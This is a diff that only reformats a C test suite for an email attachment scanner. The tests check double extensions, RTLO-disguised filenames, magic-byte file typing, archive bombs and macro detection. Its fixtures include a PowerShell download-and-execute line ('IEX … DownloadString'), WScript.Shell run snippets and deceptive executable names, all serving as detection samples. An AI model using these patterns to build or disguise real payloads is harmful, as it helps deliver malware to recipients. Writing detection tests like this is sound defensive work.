@@ -119,36 +119,40 @@ static int teardown(void **state)
 
 typedef struct name_case {
 	const char *name;
-	unsigned want;	/* flags that must be set */
-	unsigned not;	/* flags that must be clear */
+	unsigned want; /* flags that must be set */
+	unsigned not ; /* flags that must be clear */
 	const char *ext;
 } name_case;
 
 static const name_case name_cases[] = {
-	{"報告書.doc.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, ANF_BIDI, "exe"},
-	{"報告書.doc\xe3\x80\x80\xe3\x80\x80\xe3\x80\x80.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
-	{"請求書\xe3\x80\x80\xe3\x80\x80.scr", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "scr"},
-	{"invoice.pdf                     .exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
-	{"invoice.pdf......exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
-	{"setup.exe. . .", ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_TRAILING, 0, "exe"},
-	{"請求書\xe2\x80\xae" "fdp.exe", ANF_EXECUTABLE | ANF_BIDI, 0, "exe"},	/* U+202E: shows as 請求書exe.pdf */
-	{"資料\xe2\x81\xa6.pdf\xe2\x81\xa9.js", ANF_EXECUTABLE | ANF_BIDI | ANF_DOUBLE_EXT, 0, "js"}, /* U+2066/2069 */
-	{"zero\xe2\x80\x8bwidth.txt", ANF_BIDI | ANF_DOC_EXT, ANF_EXECUTABLE, "txt"},
-	{"\xef\xbb\xbf" "bom.pdf", ANF_BIDI, 0, "pdf"},
-	{"議事録.pdf", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_BIDI, "pdf"},
-	{"議事録 2015.05.08.docx", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT, "docx"},
-	{"setup.v2.exe", ANF_EXECUTABLE, ANF_DOUBLE_EXT, "exe"},
-	{"shortcut.LNK", ANF_EXECUTABLE, 0, "lnk"},
-	{"disk.iso", ANF_EXECUTABLE, 0, "iso"},
-	{"C:\\Users\\x\\Desktop\\run.ps1", ANF_EXECUTABLE, 0, "ps1"},
-	{"dir/sub/報告書.xlsm", ANF_MACRO_EXT, ANF_EXECUTABLE, "xlsm"},
-	{"a.settingcontent-ms", ANF_EXECUTABLE, 0, "settingcontent-ms"},
-	{"noextension", 0, ANF_EXECUTABLE | ANF_DOUBLE_EXT, ""},
-	{"trailing.pdf  ", ANF_TRAILING | ANF_DOC_EXT, ANF_DOUBLE_EXT, "pdf"},
-	{"\xff\xfe.exe", ANF_EXECUTABLE | ANF_BAD_UTF8, 0, "exe"},
-	{"a.ｅｘｅ", 0, ANF_EXECUTABLE, ""},	/* full-width letters: Windows does not run it */
-	{"photo.jpg.lnk", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "lnk"},
-	{"", 0, ANF_EXECUTABLE, ""},
+    {"報告書.doc.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, ANF_BIDI, "exe"},
+    {"報告書.doc\xe3\x80\x80\xe3\x80\x80\xe3\x80\x80.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
+    {"請求書\xe3\x80\x80\xe3\x80\x80.scr", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "scr"},
+    {"invoice.pdf                     .exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
+    {"invoice.pdf......exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
+    {"setup.exe. . .", ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_TRAILING, 0, "exe"},
+    {"請求書\xe2\x80\xae"
+     "fdp.exe",
+     ANF_EXECUTABLE | ANF_BIDI, 0, "exe"}, /* U+202E: shows as 請求書exe.pdf */
+    {"資料\xe2\x81\xa6.pdf\xe2\x81\xa9.js", ANF_EXECUTABLE | ANF_BIDI | ANF_DOUBLE_EXT, 0, "js"}, /* U+2066/2069 */
+    {"zero\xe2\x80\x8bwidth.txt", ANF_BIDI | ANF_DOC_EXT, ANF_EXECUTABLE, "txt"},
+    {"\xef\xbb\xbf"
+     "bom.pdf",
+     ANF_BIDI, 0, "pdf"},
+    {"議事録.pdf", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_BIDI, "pdf"},
+    {"議事録 2015.05.08.docx", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT, "docx"},
+    {"setup.v2.exe", ANF_EXECUTABLE, ANF_DOUBLE_EXT, "exe"},
+    {"shortcut.LNK", ANF_EXECUTABLE, 0, "lnk"},
+    {"disk.iso", ANF_EXECUTABLE, 0, "iso"},
+    {"C:\\Users\\x\\Desktop\\run.ps1", ANF_EXECUTABLE, 0, "ps1"},
+    {"dir/sub/報告書.xlsm", ANF_MACRO_EXT, ANF_EXECUTABLE, "xlsm"},
+    {"a.settingcontent-ms", ANF_EXECUTABLE, 0, "settingcontent-ms"},
+    {"noextension", 0, ANF_EXECUTABLE | ANF_DOUBLE_EXT, ""},
+    {"trailing.pdf  ", ANF_TRAILING | ANF_DOC_EXT, ANF_DOUBLE_EXT, "pdf"},
+    {"\xff\xfe.exe", ANF_EXECUTABLE | ANF_BAD_UTF8, 0, "exe"},
+    {"a.ｅｘｅ", 0, ANF_EXECUTABLE, ""}, /* full-width letters: Windows does not run it */
+    {"photo.jpg.lnk", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "lnk"},
+    {"", 0, ANF_EXECUTABLE, ""},
 };
 
 static void test_name_rules(void **state)
@@ -161,9 +165,9 @@ static void test_name_rules(void **state)
 		const name_case *c = &name_cases[i];
 		attach_name_info ni;
 		unsigned got = attach_name_check(c->name, &ni);
-		if ((got & c->want) != c->want || (got & c->not) || strcmp(ni.ext, c->ext) != 0) {
-			print_error("name %s: got flags 0x%x ext \"%s\", want 0x%x (not 0x%x) ext \"%s\"\n", c->name, got,
-				    ni.ext, c->want, c->not, c->ext);
+		if ((got & c->want) != c->want || (got & c->not ) || strcmp(ni.ext, c->ext) != 0) {
+			print_error("name %s: got flags 0x%x ext \"%s\", want 0x%x (not 0x%x) ext \"%s\"\n", c->name,
+			            got, ni.ext, c->want, c->not, c->ext);
 			bad++;
 		}
 	}
@@ -179,45 +183,59 @@ typedef struct type_case {
 	attach_type want;
 } type_case;
 
-#define T(n, s, t) {n, s, sizeof(s) - 1, t}
+#define T(n, s, t)                                                                                                     \
+	{                                                                                                              \
+		n, s, sizeof(s) - 1, t                                                                                 \
+	}
 static const type_case type_cases[] = {
-	T("PE", "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
-		"\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0", AT_PE),
-	T("MZ text", "MZ is how this letter to the bank starts, plain text and more text here ok", AT_TEXT),
-	T("ELF", "\x7f" "ELF\x02\x01\x01\0", AT_ELF),
-	T("Mach-O", "\xcf\xfa\xed\xfe\x07\0\0\x01", AT_MACHO),
-	T("Mach-O fat", "\xca\xfe\xba\xbe\0\0\0\x02", AT_MACHO),
-	T("Java class", "\xca\xfe\xba\xbe\0\0\0\x34", AT_JAVA_CLASS),
-	T("OLE2", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", AT_OLE2),
-	T("PDF", "%PDF-1.7\n", AT_PDF),
-	T("PDF late", "\r\n\r\n  %PDF-1.4\n", AT_PDF),
-	T("RTF", "{\\rtf1\\ansi", AT_RTF),
-	T("RAR", "Rar!\x1a\x07\x01\0", AT_RAR),
-	T("7z", "7z\xbc\xaf\x27\x1c\0\x04", AT_7Z),
-	T("LZH", "\x2d\0-lh5-\x10\0\0\0", AT_LZH),
-	T("CAB", "MSCF\0\0\0\0\x10\0", AT_CAB),
-	T("gzip", "\x1f\x8b\x08\0\0\0", AT_GZIP),
-	T("xz", "\xfd" "7zXZ\0\0", AT_XZ),
-	T("LNK", "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0", AT_LNK),
-	T("VHDX", "vhdxfile\0\0", AT_VHDX),
-	T("CHM", "ITSF\x03\0\0\0\x60\0", AT_CHM),
-	T("zip", "PK\x03\x04\x14\0\0\0\0\0", AT_ZIP),
-	T("OOXML head", "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x13\0\0\0[Content_Types].xml", AT_OOXML),
-	T("PNG", "\x89PNG\r\n\x1a\n\0", AT_PNG),
-	T("JPEG", "\xff\xd8\xff\xe0\0\x10JFIF", AT_JPEG),
-	T("HTA", "<html><head><HTA:APPLICATION id=x></head></html>", AT_HTA),
-	T("JS", "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"x\");", AT_JS),
-	T("VBS", "On Error Resume Next\r\nSet o = CreateObject(\"WScript.Shell\")\r\n", AT_VBS),
-	T("PS1", "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/');", AT_PS1),
-	T("batch", "\r\n@ECHO OFF\r\nstart calc\r\n", AT_BATCH),
-	T("shell", "#!/bin/sh\necho hi\n", AT_SHELL),
-	T("HTML", "<!DOCTYPE html><html><body>hello</body></html>", AT_HTML),
-	T("old web page", "<html><script>var x = new ActiveXObject('Microsoft.XMLHTTP');</script></html>", AT_HTML),
-	T("HTA by shell use", "<html><script>new ActiveXObject('WScript.Shell').Run('x');</script></html>", AT_HTA),
-	T("VBScript page", "<html><script language=\"VBScript\">MsgBox 1</script></html>", AT_HTA),
-	T("plain", "Dear colleague, the minutes are attached. Regards.", AT_TEXT),
-	T("JS UTF-16", "\xff\xfe" "v\0a\0r\0 \0x\0=\0n\0e\0w\0 \0A\0c\0t\0i\0v\0e\0X\0O\0b\0j\0e\0c\0t\0(\0", AT_JS),
-	T("binary", "\x01\x02\x03\0\x05", AT_UNKNOWN),
+    T("PE",
+      "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
+      "\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0",
+      AT_PE),
+    T("MZ text", "MZ is how this letter to the bank starts, plain text and more text here ok", AT_TEXT),
+    T("ELF",
+      "\x7f"
+      "ELF\x02\x01\x01\0",
+      AT_ELF),
+    T("Mach-O", "\xcf\xfa\xed\xfe\x07\0\0\x01", AT_MACHO),
+    T("Mach-O fat", "\xca\xfe\xba\xbe\0\0\0\x02", AT_MACHO),
+    T("Java class", "\xca\xfe\xba\xbe\0\0\0\x34", AT_JAVA_CLASS),
+    T("OLE2", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", AT_OLE2),
+    T("PDF", "%PDF-1.7\n", AT_PDF),
+    T("PDF late", "\r\n\r\n  %PDF-1.4\n", AT_PDF),
+    T("RTF", "{\\rtf1\\ansi", AT_RTF),
+    T("RAR", "Rar!\x1a\x07\x01\0", AT_RAR),
+    T("7z", "7z\xbc\xaf\x27\x1c\0\x04", AT_7Z),
+    T("LZH", "\x2d\0-lh5-\x10\0\0\0", AT_LZH),
+    T("CAB", "MSCF\0\0\0\0\x10\0", AT_CAB),
+    T("gzip", "\x1f\x8b\x08\0\0\0", AT_GZIP),
+    T("xz",
+      "\xfd"
+      "7zXZ\0\0",
+      AT_XZ),
+    T("LNK", "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0", AT_LNK),
+    T("VHDX", "vhdxfile\0\0", AT_VHDX),
+    T("CHM", "ITSF\x03\0\0\0\x60\0", AT_CHM),
+    T("zip", "PK\x03\x04\x14\0\0\0\0\0", AT_ZIP),
+    T("OOXML head", "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x13\0\0\0[Content_Types].xml", AT_OOXML),
+    T("PNG", "\x89PNG\r\n\x1a\n\0", AT_PNG),
+    T("JPEG", "\xff\xd8\xff\xe0\0\x10JFIF", AT_JPEG),
+    T("HTA", "<html><head><HTA:APPLICATION id=x></head></html>", AT_HTA),
+    T("JS", "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"x\");", AT_JS),
+    T("VBS", "On Error Resume Next\r\nSet o = CreateObject(\"WScript.Shell\")\r\n", AT_VBS),
+    T("PS1", "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/');", AT_PS1),
+    T("batch", "\r\n@ECHO OFF\r\nstart calc\r\n", AT_BATCH),
+    T("shell", "#!/bin/sh\necho hi\n", AT_SHELL),
+    T("HTML", "<!DOCTYPE html><html><body>hello</body></html>", AT_HTML),
+    T("old web page", "<html><script>var x = new ActiveXObject('Microsoft.XMLHTTP');</script></html>", AT_HTML),
+    T("HTA by shell use", "<html><script>new ActiveXObject('WScript.Shell').Run('x');</script></html>", AT_HTA),
+    T("VBScript page", "<html><script language=\"VBScript\">MsgBox 1</script></html>", AT_HTA),
+    T("plain", "Dear colleague, the minutes are attached. Regards.", AT_TEXT),
+    T("JS UTF-16",
+      "\xff\xfe"
+      "v\0a\0r\0 \0x\0=\0n\0e\0w\0 \0A\0c\0t\0i\0v\0e\0X\0O\0b\0j\0e\0c\0t\0(\0",
+      AT_JS),
+    T("binary", "\x01\x02\x03\0\x05", AT_UNKNOWN),
 };
 #undef T
 
@@ -262,38 +280,48 @@ static void test_true_type(void **state)
 /* ---- attachments and archives ---- */
 
 typedef struct file_case {
-	const char *file;	/* fixture */
-	const char *name;	/* attachment name */
-	const char *type;	/* declared type */
-	const char *want[4];	/* codes that must be there */
-	const char *want_part;	/* a reason part must contain this (NULL: any) */
-	const char *not[4];	/* codes that must not be there */
-	int covered;		/* -1: don't care */
+	const char *file;      /* fixture */
+	const char *name;      /* attachment name */
+	const char *type;      /* declared type */
+	const char *want[4];   /* codes that must be there */
+	const char *want_part; /* a reason part must contain this (NULL: any) */
+	const char * not [4];  /* codes that must not be there */
+	int covered;           /* -1: don't care */
 } file_case;
 
 static const file_case file_cases[] = {
-	{"plain.zip", "議事録.zip", "application/zip", {NULL}, NULL,
-	 {"attach.archive_exec", "av.infected", "attach.bomb", "attach.encrypted"}, 1},
-	{"exe.zip", "資料.zip", "application/zip", {"attach.archive_exec", "attach.double_ext"}, "1:請求書.pdf.exe",
-	 {"attach.executable"}, 1},
-	{"marker.zip", "a.zip", NULL, {"av.infected"}, "1:a.txt", {NULL}, 1},
-	{"inner.lzh", "資料.lzh", "application/x-lzh", {"av.infected"}, "1:payload.txt", {NULL}, 1},
-	{"lzh-in-zip.zip", "資料.zip", NULL, {"av.infected"}, "1:docs/inner.lzh:payload.txt", {NULL}, 1},
-	{"enc.zip", "secret.zip", NULL, {"attach.encrypted"}, "secret.docx", {"attach.bomb"}, 0},
-	{"enc.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}, 0},
-	{"enc-hdr.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}, 0},
-	/* bombs count as covered: ClamAV is not handed them (see attach_stage.c) */
-	{"bomb.zip", "zeros.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
-	{"deep.zip", "deep.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
-	{"many.zip", "many.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
-	{"macro.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {"attach.archive_exec"}, 0},
-	{"renamed-vba.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {NULL}, 0},
-	{"clean.docx", "報告書.docx", NULL, {NULL}, NULL, {"attach.macro", "attach.type_mismatch"}, 0},
-	{"broken.docm", "報告書.docm", NULL, {"attach.macro"}, NULL, {NULL}, 0},
-	{"macro.doc", "議事録.doc", "application/msword", {"attach.macro"}, NULL, {"attach.type_mismatch"}, 0},
-	{"clean.doc", "議事録.doc", "application/msword", {NULL}, NULL, {"attach.macro"}, 0},
-	{"single.exe.gz", "invoice.exe.gz", NULL, {"attach.archive_exec"}, "1:invoice.exe", {NULL}, 1},
-	{"js.tar.gz", "docs.tgz", NULL, {"attach.archive_exec"}, "1:invoice.js", {NULL}, 1},
+    {"plain.zip",
+     "議事録.zip",
+     "application/zip",
+     {NULL},
+     NULL,
+     {"attach.archive_exec", "av.infected", "attach.bomb", "attach.encrypted"},
+     1},
+    {"exe.zip",
+     "資料.zip",
+     "application/zip",
+     {"attach.archive_exec", "attach.double_ext"},
+     "1:請求書.pdf.exe",
+     {"attach.executable"},
+     1},
+    {"marker.zip", "a.zip", NULL, {"av.infected"}, "1:a.txt", {NULL}, 1},
+    {"inner.lzh", "資料.lzh", "application/x-lzh", {"av.infected"}, "1:payload.txt", {NULL}, 1},
+    {"lzh-in-zip.zip", "資料.zip", NULL, {"av.infected"}, "1:docs/inner.lzh:payload.txt", {NULL}, 1},
+    {"enc.zip", "secret.zip", NULL, {"attach.encrypted"}, "secret.docx", {"attach.bomb"}, 0},
+    {"enc.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}, 0},
+    {"enc-hdr.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}, 0},
+    /* bombs count as covered: ClamAV is not handed them (see attach_stage.c) */
+    {"bomb.zip", "zeros.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
+    {"deep.zip", "deep.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
+    {"many.zip", "many.zip", NULL, {"attach.bomb"}, NULL, {NULL}, 1},
+    {"macro.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {"attach.archive_exec"}, 0},
+    {"renamed-vba.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {NULL}, 0},
+    {"clean.docx", "報告書.docx", NULL, {NULL}, NULL, {"attach.macro", "attach.type_mismatch"}, 0},
+    {"broken.docm", "報告書.docm", NULL, {"attach.macro"}, NULL, {NULL}, 0},
+    {"macro.doc", "議事録.doc", "application/msword", {"attach.macro"}, NULL, {"attach.type_mismatch"}, 0},
+    {"clean.doc", "議事録.doc", "application/msword", {NULL}, NULL, {"attach.macro"}, 0},
+    {"single.exe.gz", "invoice.exe.gz", NULL, {"attach.archive_exec"}, "1:invoice.exe", {NULL}, 1},
+    {"js.tar.gz", "docs.tgz", NULL, {"attach.archive_exec"}, "1:invoice.js", {NULL}, 1},
 };
 
 static void run_file_case(const file_case *c, int *bad)
@@ -312,12 +340,12 @@ static void run_file_case(const file_case *c, int *bad)
 	for (k = 0; k < 4 && c->want[k]; k++)
 		if (!has(&v, c->want[k], k == 0 ? c->want_part : NULL)) {
 			print_error("%s: want %s%s%s\n", c->file, c->want[k], k == 0 && c->want_part ? " at " : "",
-				    k == 0 && c->want_part ? c->want_part : "");
+			            k == 0 && c->want_part ? c->want_part : "");
 			ok = 0;
 		}
-	for (k = 0; k < 4 && c->not[k]; k++)
-		if (has(&v, c->not[k], NULL)) {
-			print_error("%s: got %s, want none\n", c->file, c->not[k]);
+	for (k = 0; k < 4 && c->not [k]; k++)
+		if (has(&v, c->not [k], NULL)) {
+			print_error("%s: got %s, want none\n", c->file, c->not [k]);
 			ok = 0;
 		}
 	if (c->covered >= 0 && covered != c->covered) {
@@ -355,7 +383,7 @@ static void test_lzh_needs_us(void **state)
 	av_scan_mem(av, data, len, "lzh-in-zip", &r);
 	/* libclamav >= 1.3 unpacks LZH itself; older ones (and ARM builds without it) do not */
 	print_message("  libclamav %s alone on LZH in zip: %s\n", av_version(),
-		      r.status == AV_FOUND ? r.name : "nothing found");
+	              r.status == AV_FOUND ? r.name : "nothing found");
 	x_free(data);
 }
 
@@ -389,7 +417,7 @@ static void test_bomb_bounded(void **state)
 static void test_limits_configurable(void **state)
 {
 	const char *ov[] = {"limits.archive_max_depth=2", "limits.archive_max_members=10",
-			    "limits.archive_max_expanded=1M"};
+	                    "limits.archive_max_expanded=1M"};
 	char err[512];
 	mw_config *c = NULL;
 	mw_verdict v;
@@ -448,7 +476,7 @@ static void test_iso(void **state)
 static void test_attachment_content(void **state)
 {
 	static const char pe[] = "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0"
-				 "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0";
+	                         "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0";
 	static const char lnk[] = "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\0\0\0\0";
 	static const char hta[] = "<html><hta:application/><script>new ActiveXObject('x')</script></html>";
 	struct {
@@ -456,13 +484,15 @@ static void test_attachment_content(void **state)
 		size_t len;
 		const char *want;
 	} cases[] = {
-		{"議事録.pdf", "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
-		{"photo.jpg", "image/jpeg", lnk, sizeof(lnk) - 1, "attach.type_mismatch"},
-		{NULL, "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
-		{"readme.txt", "text/plain", hta, sizeof(hta) - 1, "attach.type_mismatch"},
-		{"data.bin", "application/octet-stream", pe, sizeof(pe) - 1, "attach.executable"},
-		{"報告書.doc.exe", "application/octet-stream", pe, sizeof(pe) - 1, "attach.double_ext"},
-		{"\xe8\xab\x8b\xe6\xb1\x82\xe2\x80\xae" "fdp.exe", NULL, pe, sizeof(pe) - 1, "attach.rtlo"},
+	    {"議事録.pdf", "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
+	    {"photo.jpg", "image/jpeg", lnk, sizeof(lnk) - 1, "attach.type_mismatch"},
+	    {NULL, "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
+	    {"readme.txt", "text/plain", hta, sizeof(hta) - 1, "attach.type_mismatch"},
+	    {"data.bin", "application/octet-stream", pe, sizeof(pe) - 1, "attach.executable"},
+	    {"報告書.doc.exe", "application/octet-stream", pe, sizeof(pe) - 1, "attach.double_ext"},
+	    {"\xe8\xab\x8b\xe6\xb1\x82\xe2\x80\xae"
+	     "fdp.exe",
+	     NULL, pe, sizeof(pe) - 1, "attach.rtlo"},
 	};
 	size_t i;
 	int bad = 0;
@@ -472,10 +502,10 @@ static void test_attachment_content(void **state)
 		mw_verdict v;
 		verdict_init(&v);
 		attach_scan_buffer(&cfg->lim, av, "/tmp", cases[i].name, cases[i].type, cases[i].data, cases[i].len,
-				   &v);
+		                   &v);
 		if (!has(&v, cases[i].want, NULL)) {
 			print_error("case %zu (%s): want %s\n", i, cases[i].name ? cases[i].name : "(no name)",
-				    cases[i].want);
+			            cases[i].want);
 			dump(&v);
 			bad++;
 		}
@@ -534,7 +564,8 @@ static char *b64(const unsigned char *d, size_t n)
 	size_t i;
 
 	for (i = 0; i < n; i += 3) {
-		unsigned v = (unsigned)d[i] << 16 | (i + 1 < n ? (unsigned)d[i + 1] << 8 : 0) | (i + 2 < n ? d[i + 2] : 0);
+		unsigned v =
+		    (unsigned)d[i] << 16 | (i + 1 < n ? (unsigned)d[i + 1] << 8 : 0) | (i + 2 < n ? d[i + 2] : 0);
 		*p++ = t[v >> 18 & 63];
 		*p++ = t[v >> 12 & 63];
 		*p++ = i + 1 < n ? t[v >> 6 & 63] : '=';
@@ -559,12 +590,12 @@ static void scan_message(const char *body_text, const char *fixture, const char 
 	rl = strlen(enc) + 2048;
 	raw = x_malloc(rl);
 	snprintf(raw, rl,
-		 "From: a@example.net\r\nTo: b@example.com\r\nSubject: test\r\nMIME-Version: 1.0\r\n"
-		 "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
-		 "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n--XX\r\n"
-		 "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; %s\r\n"
-		 "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--XX--\r\n",
-		 body_text, fname_param, enc);
+	         "From: a@example.net\r\nTo: b@example.com\r\nSubject: test\r\nMIME-Version: 1.0\r\n"
+	         "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
+	         "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n--XX\r\n"
+	         "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; %s\r\n"
+	         "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--XX--\r\n",
+	         body_text, fname_param, enc);
 	msg_set_sender(m, "a@example.net");
 	msg_add_rcpt(m, "b@example.com");
 	assert_int_equal(msg_write(m, raw, strlen(raw)), 0);
@@ -617,16 +648,11 @@ static void test_engine_end_to_end(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_name_rules),
-		cmocka_unit_test(test_true_type),
-		cmocka_unit_test(test_archives),
-		cmocka_unit_test(test_lzh_needs_us),
-		cmocka_unit_test(test_bomb_bounded),
-		cmocka_unit_test(test_limits_configurable),
-		cmocka_unit_test(test_iso),
-		cmocka_unit_test(test_attachment_content),
-		cmocka_unit_test(test_part_ids),
-		cmocka_unit_test(test_engine_end_to_end),
+	    cmocka_unit_test(test_name_rules),   cmocka_unit_test(test_true_type),
+	    cmocka_unit_test(test_archives),     cmocka_unit_test(test_lzh_needs_us),
+	    cmocka_unit_test(test_bomb_bounded), cmocka_unit_test(test_limits_configurable),
+	    cmocka_unit_test(test_iso),          cmocka_unit_test(test_attachment_content),
+	    cmocka_unit_test(test_part_ids),     cmocka_unit_test(test_engine_end_to_end),
 	};
 
 	return cmocka_run_group_tests_name("attach", tests, setup, teardown);
